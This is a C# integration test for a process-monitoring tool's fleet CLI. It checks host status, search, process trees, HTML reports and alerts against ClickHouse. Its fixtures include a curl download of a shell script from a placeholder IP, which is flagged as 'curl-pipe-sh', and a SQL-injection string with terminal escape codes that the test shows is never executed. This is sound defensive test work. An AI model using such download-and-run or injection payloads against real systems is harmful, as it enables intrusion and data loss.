using System.Collections.Concurrent;
using System.Text.Json;
using ProcWatch.Daemon.Outputs.ClickHouse;
using ProcWatch.Events;
using ProcWatch.Tests.Daemon;
using Xunit;

namespace ProcWatch.Tests.Daemon.ClickHouse;

/// <summary>
/// What a responder looks at, written through the real ClickHouse output by two simulated
/// hosts: on host A a tree init → bash → {curl, sh → id} (curl with a hash, sh with an alert and a
/// hostile argv, id carrying its ancestor chain), and a process whose parent was never stored;
/// on host B one curl of another user. Both send heartbeats every second; B stops (its sink is
/// closed), so it goes quiet. Then every <c>procwatch fleet</c> command runs (the real CLI)
/// against <paramref name="server"/> and is checked field by field.
/// </summary>
internal static class FleetScenario
{
    public const string CurlHash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    public const string Hostile = "evil'; DROP TABLE x; --\u001b[31m\\";

    public static void Run(ClickHouseServer server, Uri insertUrl, string database)
    {
        string id = database[^6..];
        string hostA = "responder-a-" + id, hostB = "responder-b-" + id;
        string E(string name) => $"{id}-{name}";
        var log = new ConcurrentQueue<string>();
        using var dirA = new TempDir();
        using var dirB = new TempDir();
        ClickHouseSettings Settings(TempDir dir) => new()
        {
            Url = insertUrl, Database = database, SpoolDirectory = dir.File("spool"), BatchInterval = TimeSpan.FromMilliseconds(100),
            CreateTable = false, HeartbeatInterval = TimeSpan.FromSeconds(1),
        };
        long lossesA = 0;
        using (var a = new ClickHouseSink(Settings(dirA), log.Enqueue, hostA))
        {
            using (var b = new ClickHouseSink(Settings(dirB), log.Enqueue, hostB))
            {
                // A loses events as it runs (its losses grow from heartbeat to heartbeat); B does not.
                a.StartHeartbeats(() => new HeartbeatCounters(1000, Interlocked.Increment(ref lossesA), 0, 1, "ebpf+connector", "none"));
                b.StartHeartbeats(() => new HeartbeatCounters(50, 0, 0, 0, "procfs", "none"));
                DateTimeOffset t0 = DateTimeOffset.UtcNow.AddMinutes(-5);
                a.Write(Exec(t0, 1, E("init"), null, "/sbin/init", ["/sbin/init"], "root"), null, default);
                a.Write(Exec(t0.AddSeconds(1), 100, E("bash"), E("init"), "/bin/bash", ["bash", "-l"], "alice"), null, default);
                a.Write(Exec(t0.AddSeconds(2), 101, E("curl"), E("bash"), "/usr/bin/curl", ["curl", "-s", "http://203.0.113.9/x.sh"], "alice", sha: CurlHash), null, default);
                ExecEvent sh = Exec(t0.AddSeconds(3), 102, E("sh"), E("bash"), "/bin/sh", ["sh", "-c", Hostile], "alice");
                a.Write(sh, null, default);
                a.Write(sh, new AlertInfo("curl-pipe-sh", "high", 73), default);
                a.Write(Exec(t0.AddSeconds(4), 103, E("id"), E("sh"), "/usr/bin/id", ["id"], "alice",
                    ancestors: [(102, E("sh"), "/bin/sh"), (100, E("bash"), "/bin/bash"), (1, E("init"), "/sbin/init")]), null, default);
                a.Write(Exec(t0.AddSeconds(5), 200, E("cron-job"), E("cron"), "/usr/bin/backup", ["backup", "--all"], "root",
                    ancestors: [(150, E("cron"), "/usr/sbin/cron"), (1, E("init"), "/sbin/init")]), null, default);
                b.Write(Exec(t0.AddSeconds(6), 300, E("b-curl"), null, "/usr/bin/curl", ["curl", "https://example.org/"], "bob"), null, default);
                Poll.Until(() => a.Counters.Written == 7 && b.Counters.Written == 1 && a.HeartbeatsSent >= 2 && b.HeartbeatsSent >= 1, TimeSpan.FromSeconds(60),
                    () => $"written {a.Counters.Written}/{b.Counters.Written}, heartbeats {a.HeartbeatsSent}/{b.HeartbeatsSent}: {string.Join(" | ", log)}");
            }
            // B's sensor is gone: 3 intervals (3 s) without a heartbeat make it quiet. A keeps beating.
            Poll.Until(() => server.Count($"SELECT toUInt32(now()) - toUInt32(max(`@timestamp`)) FROM {database}.heartbeats WHERE `host.hostname` = '{hostB}'") > 4,
                TimeSpan.FromSeconds(60), () => "B's last heartbeat stays recent");

            string[] connection = ["--url", server.Url.ToString(), "--database", database];

            // hosts: B quiet, A losing (its losses grew within the window), with their versions and backends.
            var hosts = Json(Fleet(["hosts", "--json", .. connection]));
            JsonElement rowA = Assert.Single(hosts, h => h.GetProperty("host").GetString() == hostA);
            JsonElement rowB = Assert.Single(hosts, h => h.GetProperty("host").GetString() == hostB);
            Assert.Equal("LOSING", rowA.GetProperty("status").GetString());
            Assert.Equal("QUIET", rowB.GetProperty("status").GetString());
            Assert.Equal("ebpf+connector", rowA.GetProperty("backend").GetString());
            Assert.Equal("procfs", rowB.GetProperty("backend").GetString());
            Assert.Equal(HeartbeatWriter.Version, rowB.GetProperty("version").GetString());
            Assert.Equal(50, rowB.GetProperty("events").GetInt64());
            Assert.Equal(1000, rowA.GetProperty("interval_ms").GetInt64());
            string table = Fleet(["hosts", .. connection]);
            Assert.Matches($@"(?m)^QUIET\s+{hostB}\s", table);
            Assert.Contains("1 quiet", table, StringComparison.Ordinal);
            string quietOnly = Fleet(["hosts", "--quiet", .. connection]);
            Assert.DoesNotContain(hostA, quietOnly, StringComparison.Ordinal);

            // search: both curls, newest first; narrowed by host, by user, by hash.
            var curls = Json(Fleet(["search", "--since", "1h", "--json", "curl", .. connection]));
            Assert.Equal([E("b-curl"), E("curl")], curls.Select(r => r.GetProperty("entity_id").GetString()!).ToArray());
            Assert.Equal([E("curl")], Json(Fleet(["search", "--host", hostA, "--json", "curl", .. connection])).Select(r => r.GetProperty("entity_id").GetString()!).ToArray());
            Assert.Equal([E("b-curl")], Json(Fleet(["search", "--user", "bob", "--json", "curl", .. connection])).Select(r => r.GetProperty("entity_id").GetString()!).ToArray());
            Assert.Equal([E("curl")], Json(Fleet(["search", "--json", CurlHash, .. connection])).Select(r => r.GetProperty("entity_id").GetString()!).ToArray());
            Assert.Empty(Json(Fleet(["search", "--since", "1m", "--json", "curl", .. connection]))); // five minutes old
            // An attacker's argv as the pattern: found as text, never run as SQL; printed escaped, JSON lossless.
            var hostile = Json(Fleet(["search", "--json", "DROP TABLE x; --\u001b", .. connection]));
            Assert.Equal("sh -c '" + Hostile.Replace("'", "'\\''", StringComparison.Ordinal) + "'", Assert.Single(hostile).GetProperty("command_line").GetString());
            string shown = Fleet(["search", "DROP TABLE", .. connection]);
            Assert.DoesNotContain('\u001b', shown);
            Assert.Contains(@"\e[31m", shown, StringComparison.Ordinal);
            Assert.Equal(1, server.Count($"SELECT count() FROM system.tables WHERE database = '{database}' AND name = 'events'"));

            // tree: the stored ancestors of sh, sh itself, its descendant; and a chain filled in from what the exec carried.
            var tree = Json(Fleet(["tree", "--json", E("sh"), .. connection]));
            Assert.Equal(["ancestor:" + E("init"), "ancestor:" + E("bash"), "self:" + E("sh"), "descendant:" + E("id")],
                tree.Select(n => n.GetProperty("relation").GetString() + ":" + n.GetProperty("entity_id").GetString()!).ToArray());
            string treeText = Fleet(["tree", E("bash"), .. connection]);
            string[] lines = treeText.Split('\n', StringSplitOptions.RemoveEmptyEntries);
            Assert.Contains(E("init"), lines[0], StringComparison.Ordinal);
            Assert.StartsWith("→ ", lines[1], StringComparison.Ordinal);
            Assert.Contains("bash -l", lines[1], StringComparison.Ordinal);
            Assert.Contains("curl -s http://203.0.113.9/x.sh", lines[2], StringComparison.Ordinal);
            Assert.Contains(E("sh"), lines[3], StringComparison.Ordinal);
            Assert.Contains(E("id"), lines[4], StringComparison.Ordinal);
            Assert.Equal("1 ancestors, 3 descendants", lines[5]);
            var carried = Json(Fleet(["tree", "--json", E("cron-job"), .. connection]));
            Assert.Equal(["ancestor:" + E("init") + ":True:1", "ancestor:" + E("cron") + ":False:150", "self:" + E("cron-job") + ":True:200"],
                carried.Select(n => $"{n.GetProperty("relation").GetString()}:{n.GetProperty("entity_id").GetString()}:{n.GetProperty("stored").GetBoolean()}:{n.GetProperty("pid").GetInt64()}").ToArray());
            (int missingCode, _, string missing) = ProcWatch.Tests.Daemon.Cli.Run(["fleet", "tree", "no-such-entity'\u001b", .. connection]);
            Assert.Equal(1, missingCode);
            Assert.Contains("no stored event has process.entity_id", missing, StringComparison.Ordinal);
            Assert.DoesNotContain('\u001b', missing);

            // report: A's stored events as the HTML report.
            using var reportDir = new TempDir();
            string report = reportDir.File("report.html");
            string said = Fleet(["report", "--host", hostA, "--since", "1h", "-o", report, .. connection]);
            Assert.Contains("(6 processes", said, StringComparison.Ordinal);
            string html = File.ReadAllText(report);
            Assert.Contains("x.sh", html, StringComparison.Ordinal);
            Assert.Contains("curl-pipe-sh", html, StringComparison.Ordinal);
            Assert.DoesNotContain("example.org", html, StringComparison.Ordinal); // host B's

            // alerts: by rule and host.
            var alerts = Json(Fleet(["alerts", "--since", "1h", "--json", .. connection]));
            JsonElement alert = Assert.Single(alerts);
            Assert.Equal("curl-pipe-sh", alert.GetProperty("rule").GetString());
            Assert.Equal(hostA, alert.GetProperty("host").GetString());
            Assert.Equal(1, alert.GetProperty("alerts").GetInt64());
            Assert.Matches($@"(?m)^1\s+curl-pipe-sh\s+high\s+{hostA}\s", Fleet(["alerts", .. connection]));
        }
    }

    private static string Fleet(string[] args)
    {
        (int code, string stdout, string stderr) = ProcWatch.Tests.Daemon.Cli.Run(["fleet", .. args]);
        Assert.True(code == 0, $"fleet {string.Join(' ', args)} -> {code}: {stderr}");
        Assert.DoesNotContain("   at ", stderr, StringComparison.Ordinal);
        return stdout;
    }

    private static List<JsonElement> Json(string lines) =>
        lines.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement.Clone()).ToList();

    private static ExecEvent Exec(DateTimeOffset time, int pid, string entity, string? parent, string exe, string[] args, string user,
        string? sha = null, (int Pid, string Entity, string Exe)[]? ancestors = null) => new()
    {
        KernelTimeNs = time.ToUnixTimeMilliseconds() * 1_000_000,
        Timestamp = time,
        Pid = pid,
        Tid = pid,
        Process = new ProcessInfo
        {
            Pid = pid,
            ParentPid = ancestors?[0].Pid ?? 1,
            Name = Path.GetFileName(exe),
            Executable = exe,
            Args = args,
            EntityId = entity,
            User = new IdName(user == "root" ? 0u : user == "alice" ? 1000u : 1001u, user),
            Sha256 = sha,
            Parent = parent is null ? null : new ParentInfo { Pid = ancestors?[0].Pid ?? 1, EntityId = parent },
            Ancestors = ancestors?.Select(a => new ParentInfo { Pid = a.Pid, EntityId = a.Entity, Executable = a.Exe }).ToList(),
        },
    };
}
